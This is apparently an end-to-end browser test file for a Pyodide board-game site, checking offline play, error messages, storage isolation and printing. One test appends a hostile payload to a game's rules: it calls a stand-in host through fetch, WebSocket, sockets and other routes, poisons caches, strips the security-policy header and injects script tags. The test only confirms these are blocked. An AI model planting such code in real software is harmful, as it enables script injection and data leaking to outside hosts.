"""A site in a browser of its own: played by taps, killed, without its host, printed; nobody else is asked."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from functools import partial
from http.server import ThreadingHTTPServer
from io import BytesIO
from pathlib import Path
from threading import Thread
from typing import Any
from zipfile import ZipFile

import pikepdf
import pytest
from playwright.sync_api import Playwright, expect

from companion.game_registry.games import box
from companion.sessions.saves import load, saved
from companion.sessions.session_store import begin, open_session
from companion.site.build import build_site, set_books
from companion.site.pyodide import read_runtime
from components.base.limits import SAVE_BYTES
from components.messages import read_dictionary
from components.places import find_games, locate

from ..game_folder import FirstGame
from ..long_run import LONG
from ..programs import MISSING, find_program
from .test_build import RUNTIME, add_pictures
from .visitor import AGAIN, SITE_PATH, START_MS, Visitor, host

KILLS = 10
SPY = "(() => { const ask = askTable; askTable = (...all) => { handed = all[3].byteLength; return ask(...all); }; })()"
PRIVATE = "This window keeps nothing, as a private one does: open the link in an ordinary window."
TOO_OLD = "This browser is too old for this page: update it, or open the link on another phone."

Visit = Callable[..., Visitor]


@pytest.fixture(scope="module")
def runtime() -> dict[str, bytes]:
    """Python for browsers, of the folder that `SALVAGE_PYODIDE` names."""
    folder = os.environ.get("SALVAGE_PYODIDE")
    if not folder:
        pytest.skip(f"Pyodide{MISSING}set SALVAGE_PYODIDE to the folder that has it")
    return read_runtime(Path(folder), False)


@pytest.fixture
def visit(tmp_path: Path, playwright: Playwright) -> Iterator[Visit]:
    """Opens a site's folder on a phone."""
    with ExitStack() as stack:

        def start(folder: Path) -> Visitor:
            visitor = Visitor(playwright, tmp_path / "profile", stack.enter_context(host(folder)))
            stack.callback(visitor.close)
            return visitor

        yield start


@LONG
def test_an_own_game_is_played_from_a_link(
    tmp_path: Path, runtime: dict[str, bytes], visit: Visit, salvage: Callable[..., Any]
) -> None:
    """Begun, answered, killed ten times; then without its host: gone on with, scored, printed."""
    own = FirstGame(tmp_path / "night-market", rules=True)
    add_pictures(own)
    build_site(tmp_path / "out", [own.place], runtime, set_books([own.place]))
    visitor = visit(tmp_path / "out")
    visitor.find(".learn").click()
    visitor.find("[aria-label='Back to the game']").click()
    visitor.find(".offer .print").first.click()
    visitor.find("[data-print-do=make]").wait_for()  # What draws sheets is loaded at its first use.
    visitor.frame.evaluate("history.back()")
    visitor.begin("Night Market")
    for number in range(KILLS):
        visitor.take_up()
        before = visitor.moves
        visitor.tap(waits=False)
        visitor.page.wait_for_timeout(number * 20)  # From when a tap goes off to when it has been answered.
        visitor.kill()
        visitor.open()
        visitor.take_up(AGAIN)
        assert visitor.moves == before + 1, (number, visitor.frame.locator("body").inner_text())
    visitor.host.shutdown()
    visitor.page.reload()
    while not visitor.is_over():
        visitor.tap()
    assert "won" in visitor.frame.locator(".verdict").inner_text()
    moves, copy = visitor.moves, visitor.save("a[href='../copy']")
    visitor.go_to_the_table()
    visitor.find("a.way", has_text="Print").click()
    visitor.find("[data-print-do=make]").click()
    expect(visitor.find("#files a.call")).to_be_in_viewport(timeout=START_MS)
    with ZipFile(BytesIO(visitor.save("#files a.call"))) as packed:
        made = {name: packed.read(name) for name in packed.namelist()}
    salvage("print", str(own.folder), "--no-rulebook", f"--out={tmp_path}/printed")
    files = (tmp_path / "printed").rglob("*.pdf")
    printed = {file.name: open_out(file.read_bytes()) for file in files}
    assert {name: open_out(made[name]) for name in made if name.endswith(".pdf")} == printed
    (tmp_path / "copy.json").write_bytes(copy)
    taken = open_session(load(tmp_path / "copy.json", game_name=str(own.folder)).name)
    assert (taken.seq + 1, taken.play.over) == (moves, True)
    own_host = visitor.frame.evaluate("location.origin")
    assert {each for each in visitor.asked if not each.startswith((f"{own_host}/", "blob:", "about:"))} == set()
    assert visitor.said == []


@pytest.mark.parametrize(
    ("lacks", "said"),
    [
        ("file", "A file is missing at the site’s host: {file}. Try later, or tell whoever made it."),
        ("version", "A file at the site’s host is of another version: {file}. Try later, or tell whoever made it."),
        ("room", "It needs {size} MB of room on this phone, which aren’t there: make room, and try again."),
        ("delete Navigator.prototype.serviceWorker", PRIVATE),
        ("IDBFactory.prototype.open = () => { throw new DOMException() }", PRIVATE),
        ("delete Navigator.prototype.locks", TOO_OLD),
        ("delete globalThis.WebAssembly", TOO_OLD),
    ],
)
def test_what_is_in_the_way_is_told(lacks: str, said: str, tmp_path: Path, playwright: Playwright) -> None:
    """In the site's language, with what to do; to try again works once a file is mended."""
    own = FirstGame(tmp_path / "night-market")
    own.change("components/game.yaml", "players:", "language: de\nplayers:")
    icon = build_site(tmp_path / "out", [own.place], RUNTIME).folder / "icon.svg"
    whole = icon.read_bytes()
    {"file": icon.unlink, "version": partial(icon.write_bytes, b"<svg/>")}.get(lacks, bool)()
    with host(icon.parent) as server:
        origin = f"http://localhost:{server.server_port}"
        browser = playwright.chromium.launch(executable_path=find_program("Chromium"), args=["--no-sandbox"])
        page = browser.new_page()
        page.add_init_script(lacks if " " in lacks else "")
        if lacks == "room":
            few = {"origin": origin, "quotaSize": 1_000_000}
            page.context.new_cdp_session(page).send("Storage.overrideQuotaForOrigin", few)
        page.goto(f"{origin}{SITE_PATH}")
        words = read_dictionary("de").messages[said].format(file="icon.svg", size="7")
        expect(page.locator("#status")).to_have_text(words)
        icon.write_bytes(whole)
        if lacks in ("file", "version"):
            page.get_by_role("button", name="Noch einmal").click()
            page.wait_for_function("() => navigator.serviceWorker.controller")  # Python isn't there to begin.
        browser.close()


REMEMBER = """async () => {
  const base = location.pathname;
  localStorage.setItem("neighbour", "stays");
  localStorage.setItem(`kept ${base}x`, "an answer");
  localStorage.setItem("salvage-seats", JSON.stringify([{ path: `${base}x` }, { path: "/neighbour/x" }]));
  await new Promise((done) => {
    const opening = indexedDB.open(`/kept${base}printer`);
    opening.onsuccess = () => done(opening.result.close());
  });
}"""
REMEMBERED = """async () => [
  (await indexedDB.databases()).map(({ name }) => name).filter((name) => name.endsWith("printer")),
  ["neighbour", `kept ${location.pathname}x`, "salvage-seats"].map((key) => localStorage.getItem(key)),
]"""


@LONG
def test_forgetting_all_forgets_nothing_of_neighbours(tmp_path: Path, runtime: dict[str, bytes], visit: Visit) -> None:
    build_site(tmp_path / "out", [FirstGame(tmp_path / "night-market", rules=True).place], runtime)
    visitor = visit(tmp_path / "out")
    visitor.page.evaluate(REMEMBER)
    visitor.page.on("dialog", lambda dialog: dialog.accept())
    with visitor.page.expect_navigation():
        visitor.find("button", has_text="Forget all").click()
    visitor.page.wait_for_selector("#start", state="hidden")
    assert visitor.page.evaluate(REMEMBERED) == [[], ["stays", None, '[{"path":"/neighbour/x"}]']]


@LONG
def test_each_of_our_games_takes_a_first_answer(tmp_path: Path, runtime: dict[str, bytes], visit: Visit) -> None:
    """One after the other, with one start of Python."""
    places = [locate(game) for game in find_games()]
    build_site(tmp_path / "out", places, runtime)
    visitor = visit(tmp_path / "out")
    for number, place in enumerate(places):
        if number:
            visitor.go_to_the_table()
            visitor.find("[data-sheet='sheet/new']").click()
        visitor.begin(box(place).title)
        before = visitor.moves
        visitor.tap()
        assert visitor.moves > before, place.id
    assert visitor.said == []


HOSTILE = """
import contextlib, socket, urllib.request
from pyodide.code import run_js
ADDRESS = "{address}"
with contextlib.suppress(BaseException):
    run_js("fetch('" + ADDRESS + "/fetched').catch(() => 0)")
    run_js("import('" + ADDRESS + "/imported.js').catch(() => 0)")
    run_js("new Worker('" + ADDRESS + "/worked.js')")
with contextlib.suppress(BaseException):
    run_js("new WebSocket('" + ADDRESS.replace("http", "ws") + "/opened')")
with contextlib.suppress(BaseException):
    run_js("{{ const asked = new XMLHttpRequest(); asked.open('GET', '" + ADDRESS + "/asked', false); asked.send(); }}")
with contextlib.suppress(BaseException):
    urllib.request.urlopen(ADDRESS + "/opened", timeout=2)
with contextlib.suppress(BaseException):
    socket.create_connection((ADDRESS.split("/")[2].split(":")[0], int(ADDRESS.split(":")[2])), 2)

import js
from companion.site.bridge import Bridge
REACHED = []
async def reach():
    for name in await js.caches.keys():
        await (await js.caches.open(name)).put("/night-market/index.html", js.Response.new("owned"))
    REACHED.append("caches")
for name, act in {{
    "databases": lambda: js.indexedDB.open("neighbour"), "calls": lambda: js.RTCPeerConnection.new(),
    "frames": lambda: js.localStorage.getItem("neighbour"),
}}.items():
    with contextlib.suppress(BaseException):
        act()
        REACHED.append(name)
import asyncio
with contextlib.suppress(BaseException):
    asyncio.ensure_future(reach())
TAGS = ("<link rel=preconnect href=" + ADDRESS + "><script src=evil.js></script><script src=/static/evil.js></script>"
    "<script src=book.js></script><script>open('" + ADDRESS + "')</script><img src=" + ADDRESS + ">"
    "<style>@import url(" + ADDRESS + ");</style><iframe src=" + ADDRESS + "></iframe>")
SCRIPT = "document.title = 'owned'; open('" + ADDRESS + "'); fetch('" + ADDRESS + "')"
honest_ask = Bridge.ask
async def ask(self, method, path, headers, body):
    if path.endswith(("evil.js", "book.js")):
        return 200, [("content-type", "text/javascript")], SCRIPT.encode()
    status, answered, content = await honest_ask(self, method, path, headers, body)
    tags = TAGS + "<meta name=reached content='" + " ".join(REACHED) + "'>"
    answered = [each for each in answered if each[0] != "content-security-policy"]
    answered.append(("link", "<" + ADDRESS + ">; rel=preconnect"))
    return status, answered, content.replace(b"<head>", b"<head>" + tags.encode())
Bridge.ask = ask
"""


def test_a_hostile_game_reaches_nobody_and_games_outlive_new_rules(
    tmp_path: Path, runtime: dict[str, bytes], visit: Visit
) -> None:
    """Its rules ask another host by all ways that Python and the browser have. What is no copy is refused in words; a
    game is kept for another version of its rules."""
    own = FirstGame(tmp_path / "night-market", rules=True)
    session = begin(own.place, ("Ann", "Bo"), seed=4)
    session.random(3)
    (tmp_path / "copy.json").write_text(saved(session.journal))
    heard: list[object] = []
    with ThreadingHTTPServer(("127.0.0.1", 0), lambda *asked: heard.append(asked)) as other:
        Thread(target=other.serve_forever, daemon=True).start()
        rules = own.folder / "companion" / "table.py"
        rules.write_text(rules.read_text() + HOSTILE.format(address=f"http://localhost:{other.server_port}"))
        build_site(tmp_path / "out", [own.place], runtime)
        visitor = visit(tmp_path / "out")
        visitor.find("[data-copy]").set_input_files({"name": "cat.json", "mimeType": "", "buffer": b"{}"})
        expect(visitor.find("[role=status]")).to_contain_text("is no copy of a game")
        deep = b'{"format": "salvage-session", "meta": ' + b"[" * 200_000
        visitor.find("[data-copy]").set_input_files({"name": "deep.json", "mimeType": "", "buffer": deep})
        visitor.page.locator("#about", has_text="begins again").wait_for()  # As no Python reads it.
        visitor.page.wait_for_selector("#start", state="hidden")
        visitor.page.evaluate(SPY)
        video = {"name": "video.json", "mimeType": "", "buffer": bytes(SAVE_BYTES.most + 1)}
        visitor.find("[data-copy]").set_input_files(video)
        visitor.page.wait_for_function("() => window.handed === 0")
        visitor.find("[data-copy]").set_input_files(tmp_path / "copy.json")
        visitor.find("#host").wait_for()
        expect(visitor.find("#heading")).to_contain_text("Turn 4")
        assert visitor.frame.locator("meta[name=reached]").get_attribute("content") == ""
        url = visitor.frame.url
        assert "owned" not in [visitor.page.title(), visitor.frame.title()]
        policy = visitor.page.evaluate("async (url) => (await fetch(url)).headers.get('content-security-policy')", url)
        assert f"{SITE_PATH}sw.js" in policy  # Without it Firefox runs no script that a service worker answers with.
        visitor.page.reload()
        visitor.find("#heading", has_text="Turn 4").wait_for()
        assert heard == []
        other.shutdown()
    own.change("components/game.yaml", "hand: {value: 2", "hand: {value: 3")
    build_site(tmp_path / "out", [own.place], runtime)
    visitor.page.reload()
    visitor.find("#heading", has_text="Turn 4").wait_for()  # As long as the page is open it is of one version.
    visitor.page.wait_for_function("() => caches.keys().then((kept) => kept.length === 2)")
    visitor.close()
    visitor.open()
    visitor.find(".game", has_text="Go on").click()
    visitor.find("dialog", has_text="The rules here have changed").wait_for()
    visitor.find("dialog button", has_text="Close").click()
    assert json.loads(visitor.save("a[href='../copy']"))["meta"]["players"] == ["Ann", "Bo"]
    assert heard == []
    rules.write_text(f"{rules.read_text()}\nimport sys\nassert sys.platform != 'emscripten'\n")
    build_site(tmp_path / "out", [own.place], runtime)
    visitor.page.reload()
    visitor.find("button", has_text="New version: load now").click()
    expect(visitor.page.locator("#status")).to_contain_text("This game’s rules have a bug", timeout=START_MS)


def open_out(file: bytes) -> bytes:
    """A PDF with its streams as they are before they are packed, which every zlib does in a way of its own."""
    out = BytesIO()
    with pikepdf.open(BytesIO(file)) as opened:
        opened.save(out, static_id=True, qdf=True, compress_streams=False)
    return out.getvalue()
